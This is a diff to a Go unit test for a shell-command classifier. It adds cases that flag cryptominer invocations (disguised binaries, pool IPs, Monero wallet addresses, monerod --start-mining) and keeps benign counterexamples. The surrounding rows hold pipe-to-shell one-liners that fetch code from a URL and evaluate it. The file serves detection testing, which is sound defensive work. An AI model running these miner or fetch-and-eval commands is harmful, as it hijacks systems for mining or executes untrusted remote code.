@@ -61,6 +61,13 @@ func TestExpansions(t *testing.T) {
 		{"node -e 'require(\"http\").get(\"URL\",r=>r.on(\"data\",d=>eval(d+\"\")))'", "pipe_to_shell"},
 		{"lua -e 'load(io.popen(\"wget -qO- URL\"):read(\"a\"))()'", "pipe_to_shell"},
 		{"python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'", ""},
+		{"/usr/lib/ks/bz -a kaspa -w kaspa:qqkqkzjvr7zwxxmjxjkmxx3kzy7vmh6d4jq9u0w8d3u3u0x5x5x5x5x5x5x5x -p 203.0.113.45:5555", "miner_args"},
+		{"/opt/p2/p2 --host 203.0.113.50 --wallet 4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL --mini", "miner_args"},
+		{"monerod --start-mining 4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL", "miner_args"},
+		{"x -o 203.0.113.45:443 -u XMR:4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiM.w1 -p x", "miner_args"},
+		{"monero-wallet-rpc --wallet-file /var/lib/w --rpc-bind-port 18083", ""},
+		{"monerod --non-interactive --rpc-bind-ip 127.0.0.1", ""},
+		{"mysql -u root -p secret -h db.example:3306", ""},
 		{"curl -s http://127.0.0.1:9000/health", ""},
 	} {
 		command := strings.ReplaceAll(tt.command, "URL", url)
